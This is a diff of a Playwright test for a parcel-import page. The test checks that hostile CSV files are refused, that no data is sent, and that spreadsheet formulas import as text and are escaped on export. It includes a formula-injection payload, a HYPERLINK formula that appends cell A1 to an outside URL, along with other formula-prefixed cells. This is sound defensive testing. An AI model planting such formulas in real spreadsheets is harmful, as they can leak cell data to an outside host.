@@ -37,54 +37,54 @@ async function check(page: Page): Promise<void> {
   await expect(page.getByRole('grid', { name: 'Rows of the file' })).toBeVisible();
 }
 
-test('hostile files: each says what is wrong, nothing is sent, and the page goes on; formulas are text', async ({
-  desk,
-  api,
-  service,
-}) => {
-  const sent: string[] = [];
-  desk.on('request', (request) => {
-    if (request.method() !== 'GET') sent.push(`${request.method()} ${new URL(request.url()).pathname}`);
-  });
-  await desk.keyboard.press('Alt+9');
-  for (const [what, file, says] of refused)
-    await test.step(what, async () => {
-      await choose(desk, file);
-      const alert = desk.getByRole('alert').filter({ hasText: says });
-      await expect(alert).toBeVisible();
-      await expect(alert).toBeFocused();
-      await expect(desk.getByRole('button', { name: 'Choose another file' })).toBeEnabled();
+test(
+  'hostile files: each says what is wrong, nothing is sent, and the page goes on; formulas are text',
+  { tag: '@safety' },
+  async ({ desk, api, service }) => {
+    const sent: string[] = [];
+    desk.on('request', (request) => {
+      if (request.method() !== 'GET') sent.push(`${request.method()} ${new URL(request.url()).pathname}`);
     });
+    await desk.keyboard.press('Alt+9');
+    for (const [what, file, says] of refused)
+      await test.step(what, async () => {
+        await choose(desk, file);
+        const alert = desk.getByRole('alert').filter({ hasText: says });
+        await expect(alert).toBeVisible();
+        await expect(alert).toBeFocused();
+        await expect(desk.getByRole('button', { name: 'Choose another file' })).toBeEnabled();
+      });
 
-  await test.step('rows with fewer cells are filled up, and it says so', async () => {
-    await choose(desk, 'Order number,Name,City\nSHORT-1,Ann,Graz\nSHORT-2\n');
-    await expect(desk.getByText('Line 3 has fewer cells than the header.')).toBeVisible();
-    await check(desk);
-    await expect(desk.getByRole('button', { name: 'Create 2 parcels' })).toBeEnabled();
-    await desk.getByRole('button', { name: 'Discard' }).click();
-  });
-  expect(sent).toEqual([]);
+    await test.step('rows with fewer cells are filled up, and it says so', async () => {
+      await choose(desk, 'Order number,Name,City\nSHORT-1,Ann,Graz\nSHORT-2\n');
+      await expect(desk.getByText('Line 3 has fewer cells than the header.')).toBeVisible();
+      await check(desk);
+      await expect(desk.getByRole('button', { name: 'Create 2 parcels' })).toBeEnabled();
+      await desk.getByRole('button', { name: 'Discard' }).click();
+    });
+    expect(sent).toEqual([]);
 
-  await test.step('formulas come in as text, and go out guarded', async () => {
-    const formula = '=HYPERLINK("https://example.com/"&A1,"open")';
-    const cells = ['FORMULA-1', `"${formula.replaceAll('"', '""')}"`, '+49 30 1', "'@SUM(1+1)", '-2'];
-    await choose(desk, `Order number,Name,Phone,Note,City\n${cells.join(',')}\n`);
-    await check(desk);
-    await expect(desk.getByRole('grid').getByText(formula)).toBeVisible();
-    await desk.getByRole('button', { name: 'Create 1 parcel' }).click();
-    await expect(desk.getByText('1 parcel imported.')).toBeVisible();
-    const { data } = (await api.get('/parcels')).body as { data: ParcelJson[] };
-    expect(data).toMatchObject([{ note: '@SUM(1+1)', receiver: { name: formula, phone: '+49 30 1', city: '-2' } }]);
-    expect(sent).toEqual(['POST /v1/parcels']);
+    await test.step('formulas come in as text, and go out guarded', async () => {
+      const formula = '=HYPERLINK("https://example.com/"&A1,"open")';
+      const cells = ['FORMULA-1', `"${formula.replaceAll('"', '""')}"`, '+49 30 1', "'@SUM(1+1)", '-2'];
+      await choose(desk, `Order number,Name,Phone,Note,City\n${cells.join(',')}\n`);
+      await check(desk);
+      await expect(desk.getByRole('grid').getByText(formula)).toBeVisible();
+      await desk.getByRole('button', { name: 'Create 1 parcel' }).click();
+      await expect(desk.getByText('1 parcel imported.')).toBeVisible();
+      const { data } = (await api.get('/parcels')).body as { data: ParcelJson[] };
+      expect(data).toMatchObject([{ note: '@SUM(1+1)', receiver: { name: formula, phone: '+49 30 1', city: '-2' } }]);
+      expect(sent).toEqual(['POST /v1/parcels']);
 
-    // Loaded anew: the list that was read before looks for new parcels later.
-    await desk.goto(`${service.origin}/parcels`);
-    await desk.getByRole('button', { name: 'Export', exact: true }).click();
-    const dialog = desk.getByRole('dialog', { name: 'Export parcels' });
-    await dialog.getByRole('radio', { name: 'All fields' }).check();
-    const download = desk.waitForEvent('download');
-    await dialog.getByRole('button', { name: 'Export' }).click();
-    const text = await readFile(await (await download).path(), 'utf8');
-    for (const guarded of [`"'=HYPERLINK(""https`, "'+49 30 1", "'@SUM(1+1)", "'-2"]) expect(text).toContain(guarded);
-  });
-});
+      // Loaded anew: the list that was read before looks for new parcels later.
+      await desk.goto(`${service.origin}/parcels`);
+      await desk.getByRole('button', { name: 'Export', exact: true }).click();
+      const dialog = desk.getByRole('dialog', { name: 'Export parcels' });
+      await dialog.getByRole('radio', { name: 'All fields' }).check();
+      const download = desk.waitForEvent('download');
+      await dialog.getByRole('button', { name: 'Export' }).click();
+      const text = await readFile(await (await download).path(), 'utf8');
+      for (const guarded of [`"'=HYPERLINK(""https`, "'+49 30 1", "'@SUM(1+1)", "'-2"]) expect(text).toContain(guarded);
+    });
+  },
+);
